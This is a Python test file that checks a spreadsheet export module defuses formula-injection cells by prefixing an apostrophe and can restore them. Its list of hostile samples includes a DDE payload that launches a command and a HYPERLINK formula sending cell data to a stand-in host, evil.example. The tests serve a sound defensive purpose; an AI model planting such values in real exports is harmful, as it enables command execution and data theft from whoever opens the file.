"""No cell of an export is run by a spreadsheet, and each can be read back."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from consent.core.formulas import SKIPPED, TRIGGERS, is_formula, neutralised, restored

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "\nx",
    '=cmd|"/c calc"!A1',
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "'=1",
    '"=1"',
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "''@x",
    '=HYPERLINK("https://evil.example/?" & A1)',
]
CELLS = st.text(st.sampled_from([*TRIGGERS, *SKIPPED, "a", "1", ",", "{", "é"]), max_size=6)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    """P10."""
    assert is_formula(text)
    assert neutralised(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "en", "clinic", "5e5", "{}", "a=b", "é", "1-2", "'quoted'"])
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text


@given(CELLS)
def test_no_cell_begins_with_what_runs(text: str) -> None:
    """P10."""
    cell = neutralised(text)
    assert not is_formula(cell) or cell == f"'{text}"
    assert cell[:1] not in {*TRIGGERS, "\t", "\r", "\n"}


@given(CELLS | st.text())
@example("'\n")
@example("''\t")
def test_every_cell_can_be_read_back(text: str) -> None:
    assert restored(neutralised(text)) == text
